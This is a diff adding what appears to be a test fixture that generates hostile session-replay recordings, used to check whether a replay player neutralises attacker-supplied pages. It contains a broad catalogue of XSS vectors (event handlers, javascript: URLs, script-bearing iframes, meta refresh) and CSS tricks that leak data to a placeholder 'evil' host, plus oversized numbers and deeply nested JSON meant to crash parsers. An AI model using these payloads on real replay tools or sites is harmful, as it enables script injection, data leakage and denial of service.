@@ -1,0 +1,92 @@
+/* Recordings that an attacker would post: everything that could run, ask or send, each naming an address of `evil`. */
+
+const RUN = 'top.pwned=1;window.pwned=1;alert(1)';
+
+class Page {
+  #id = 0;
+  events = [];
+  constructor(at) { this.at = at; }
+  text(textContent, isStyle = false) { return { type: 3, id: ++this.#id, textContent, ...(isStyle ? { isStyle } : {}) }; }
+  el(tagName, attributes = {}, ...childNodes) {
+    return { type: 2, id: ++this.#id, tagName, attributes, childNodes: childNodes.map((c) => (typeof c === 'string' ? this.text(c) : c)) };
+  }
+  push(after, type, data) { this.events.push({ type, timestamp: this.at + after, data }); return this; }
+  change(after, data) { return this.push(after, 3, data); }
+  show(head, body) {
+    const html = this.el('html', {}, head, body);
+    this.push(0, 4, { href: 'https://shop.example/', width: 1024, height: 768 });
+    return this.push(0, 2, { node: { type: 0, id: ++this.#id, childNodes: [{ type: 1, id: ++this.#id, name: 'html', publicId: '', systemId: '' }, html] }, initialOffset: { left: 0, top: 0 } });
+  }
+  mark(parent) { return this.change(900, { source: 0, texts: [], attributes: [], removes: [], adds: [{ parentId: parent.id, nextId: null, node: this.el('h2', {}) }, { parentId: this.#id, nextId: null, node: this.text('All of it was played') }] }); }
+}
+
+const css = (evil, n) => `@import "${evil}/${n}-import.css";@import url(${evil}/${n}-import-url.css);@font-face{font-family:x${n};src:url(${evil}/${n}-font.woff2)}
+@font-face{font-family:y${n};src:u\\72l("${evil}/${n}-escaped-font.woff2")}h1{font-family:x${n},y${n};background:url(${evil}/${n}-bg.png)}
+h1::before{content:url(${evil}/${n}-content.png)}p{background:\\75rl(${evil}/${n}-escaped.png);cursor:url(${evil}/${n}.cur),auto}
+li{list-style:url(${evil}/${n}-list.png)}input[value^="a"]{background-image:image-set("${evil}/${n}-leak-a.png" 1x)}
+div{border-image:url(${evil}/${n}-border.png) 1;mask-image:url(${evil}/${n}-mask.svg);filter:url(${evil}/${n}-filter.svg#f);--v:url(${evil}/${n}-var.png);background:var(--v)}
+@namespace url(${evil}/${n}-ns);`;
+
+/** Markup, attributes, style sheets and every kind of change. */
+export function everything(at, evil) {
+  const p = new Page(at);
+  const u = (name) => `${evil}/${name}`;
+  const style = p.text(css(evil, 'text'), true);
+  const img = p.el('img', { src: u('img.png'), srcset: `${u('2x.png')} 2x`, onerror: RUN, onload: RUN, rr_dataURL: u('rr.png'), loading: 'eager' });
+  const canvas = p.el('canvas', { rr_dataURL: u('canvas.png'), width: '10', height: '10' });
+  const link = p.el('link', { rel: 'stylesheet', href: u('sheet.css'), _cssText: css(evil, 'link') });
+  const shadow = { ...p.el('x-evil', { onfocus: RUN }), isShadowHost: true, isCustom: true };
+  shadow.childNodes.push({ ...p.el('img', { src: u('shadow.png') }), isShadow: true }, { ...p.el('style', {}, p.text(css(evil, 'shadow'), true)), isShadow: true });
+  const body = p.el('body', { onload: RUN, background: u('body.png'), style: `background:url(${u('style.png')})` },
+    p.el('h1', { style: `background-image:url('${u('h1.png')}')` }, 'Hostile page'), p.el('p', {}, 'text'), p.el('li', {}, 'item'),
+    p.el('script', { src: u('script.js') }, RUN), p.el('script', { type: 'module' }, `import ${JSON.stringify(u('module.js'))}`), p.el('noscript', {}, `<img src=${u('noscript.png')}>`),
+    img, canvas, p.el('picture', {}, p.el('source', { srcset: u('source.webp') }), p.el('img', { src: `javascript:${RUN}` })),
+    p.el('iframe', { src: u('frame'), srcdoc: `<script>${RUN}</script><img src=${u('srcdoc.png')}>`, rr_src: u('rr-frame') }), p.el('iframe', { src: `javascript:${RUN}` }), p.el('iframe', { rr_src: `data:text/html,<script>${RUN}</script><img src=${u('data-frame.png')}>` }),
+    p.el('object', { data: u('object.swf'), type: 'text/html' }), p.el('embed', { src: u('embed.html'), type: 'text/html' }), p.el('applet', { code: u('applet.class') }), p.el('portal', { src: u('portal') }),
+    p.el('video', { src: u('video.mp4'), poster: u('poster.png'), autoplay: '', rr_mediaState: 'played' }, p.el('track', { src: u('track.vtt'), default: '' })), p.el('audio', { src: u('audio.mp3'), autoplay: '' }),
+    p.el('a', { href: `javascript:${RUN}`, target: '_top', ping: u('ping'), autofocus: '', onfocus: RUN, tabindex: '0' }, 'link'), p.el('area', { href: u('area') }),
+    p.el('form', { action: u('form'), method: 'post', target: '_blank' }, p.el('input', { name: 'a', value: 'abc', formaction: u('formaction'), autofocus: '', onfocus: RUN }), p.el('input', { type: 'image', src: u('input.png') }), p.el('button', { formaction: `javascript:${RUN}` }, 'Send')),
+    p.el('svg', { xmlns: 'http://www.w3.org/2000/svg', onload: RUN }, p.el('script', { 'xlink:href': u('svg.js') }, RUN), p.el('use', { href: u('use.svg#a') }), p.el('image', { 'xlink:href': u('image.png'), href: u('image2.png') }), p.el('feImage', { href: u('fe.png') }), p.el('a', { 'xlink:href': `javascript:${RUN}` }, p.el('animate', { attributeName: 'href', values: `javascript:${RUN}`, begin: '0s', onbegin: RUN })), p.el('foreignObject', {}, p.el('img', { src: u('foreign.png') }))),
+    p.el('math', {}, p.el('mi', { 'xlink:href': `javascript:${RUN}`, href: u('math') })), p.el('table', { background: u('table.png') }), p.el('marquee', { onstart: RUN }, 'x'), p.el('details', { open: '', ontoggle: RUN }), p.el('dialog', { open: '', rr_open_mode: 'modal' }, 'x'), shadow);
+  const head = p.el('head', {}, p.el('base', { href: `${evil}/base/`, target: '_top' }), p.el('meta', { 'http-equiv': 'refresh', content: `0;url=${u('refresh')}` }), p.el('meta', { 'http-equiv': 'Content-Security-Policy', content: `default-src *; report-uri ${u('csp')}` }),
+    p.el('meta', { name: 'referrer', content: 'unsafe-url' }), link, ...['preload', 'prefetch', 'modulepreload', 'prerender', 'preconnect', 'dns-prefetch', 'icon', 'manifest', 'import', 'stylesheet'].map((rel) => p.el('link', { rel, href: u(`${rel}-hint`), as: 'image' })), p.el('style', {}, style));
+  p.show(head, body);
+  p.change(100, { source: 0, texts: [{ id: style.id, value: css(evil, 'later') }], removes: [], adds: [{ parentId: body.id, nextId: null, node: p.el('img', { src: u('late.png'), onerror: RUN }) }, { parentId: body.id, nextId: null, node: p.el('script', { src: u('late.js') }) }], attributes: [{ id: img.id, attributes: { src: u('changed.png'), onclick: RUN } }, { id: body.id, attributes: { style: { 'background-image': `url(${u('object-style.png')})`, cursor: [`url(${u('important.cur')}),auto`, 'important'] } } }] });
+  p.change(200, { source: 8, id: link.id, adds: [{ rule: `h1{background:url(${u('rule.png')})}`, index: 0 }, { rule: `@import "${u('rule-import.css')}"`, index: 0 }] });
+  p.change(210, { source: 8, id: link.id, replaceSync: css(evil, 'replace') });
+  p.change(220, { source: 13, id: link.id, index: [0], set: { property: 'background-image', value: `url(${u('declared.png')})`, priority: 'important' } });
+  p.change(300, { source: 10, family: 'z', fontSource: `url(${u('font-event.woff2')})`, buffer: false });
+  p.change(310, { source: 10, family: 'q', fontSource: JSON.stringify([1, 2, 3]), buffer: true });
+  p.change(400, { source: 9, id: canvas.id, type: 0, commands: [{ property: 'drawImage', args: [{ rr_type: 'HTMLImageElement', src: u('draw.png') }, 0, 0] }, { property: 'constructor', args: [RUN] }] });
+  p.change(410, { source: 9, id: canvas.id, type: 0, property: 'fillStyle', args: [u('fill.png')], setter: true });
+  p.change(500, { source: 15, id: body.id, styles: [{ styleId: 1, rules: [{ rule: `h1{background:url(${u('adopted.png')})}`, index: 0 }] }], styleIds: [1] });
+  p.change(600, { source: 7, id: img.id, type: 0, currentTime: 0 });
+  p.change(610, { source: 16, define: { name: `x-${RUN}` } });
+  p.change(700, { source: 2, type: 2, id: img.id, x: 1, y: 1 });
+  p.push(800, 5, { tag: RUN, payload: { html: `<img src=${u('custom.png')}>` } });
+  return p.mark(body).events;
+}
+
+/** Numbers and times that no clock and no screen has. */
+export function numbers(at) {
+  const p = new Page(at);
+  const body = p.el('body', {}, p.el('h1', {}, 'Huge numbers'));
+  p.show(p.el('head', {}), body);
+  for (const n of [1e17, -1e17, 1e308, -1, 9007199254740993, 0.5]) {
+    p.change(100, { source: 1, positions: [{ x: n, y: n, id: body.id, timeOffset: n }] });
+    p.change(150, { source: 3, id: body.id, x: n, y: n });
+    p.change(200, { source: 4, width: n, height: n });
+    p.change(250, { source: n, id: n });
+    p.push(300, n, {});
+    p.push(n - at, 3, { source: 0, texts: [], attributes: [], removes: [], adds: [] });
+    p.push(350, 4, { href: 'x', width: n, height: n });
+  }
+  return p.mark(body).events;
+}
+
+/** JSON of a page that nests deeper than any stack. */
+export function deep(at, depth) {
+  const open = Array.from({ length: depth }, (_, i) => `{"type":2,"id":${i + 10},"tagName":"b","attributes":{},"childNodes":[`).join('');
+  const page = `${open}{"type":3,"id":5,"textContent":"deep"}${']}'.repeat(depth)}`;
+  return `[{"type":4,"timestamp":${at},"data":{"href":"https://shop.example/","width":800,"height":600}},{"type":2,"timestamp":${at},"data":{"node":{"type":0,"id":1,"childNodes":[{"type":2,"id":2,"tagName":"html","attributes":{},"childNodes":[{"type":2,"id":3,"tagName":"body","attributes":{},"childNodes":[${page}]}]}]},"initialOffset":{"left":0,"top":0}}}]`;
+}
